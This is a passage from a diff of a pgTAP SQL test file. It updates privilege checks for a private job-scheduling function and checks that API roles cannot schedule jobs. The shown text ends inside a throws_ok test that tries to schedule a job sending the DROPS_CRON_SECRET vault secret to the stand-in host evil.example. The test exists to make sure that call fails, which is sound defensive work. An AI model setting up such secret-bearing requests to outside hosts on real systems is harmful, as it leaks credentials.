@@ -246,8 +246,8 @@ insert into vault.secrets (name, secret) values
   ('DROPS_CRON_SECRET', 'pgtap-drops-cron-secret')
 on conflict (name) do nothing;
 
-select ok(not has_function_privilege('authenticated', 'private.schedule_edge_function_job(text, text, text, text)', 'EXECUTE')
-          and not has_function_privilege('anon', 'private.schedule_edge_function_job(text, text, text, text)', 'EXECUTE'),
+select ok(not has_function_privilege('authenticated', 'private.schedule_edge_function_job(text, text, text, text, integer)', 'EXECUTE')
+          and not has_function_privilege('anon', 'private.schedule_edge_function_job(text, text, text, text, integer)', 'EXECUTE'),
   'API roles cannot schedule jobs');
 select throws_ok(
   $$select private.schedule_edge_function_job('x-test-job', '0 * * * *', 'https://evil.example/x', 'DROPS_CRON_SECRET')$$,
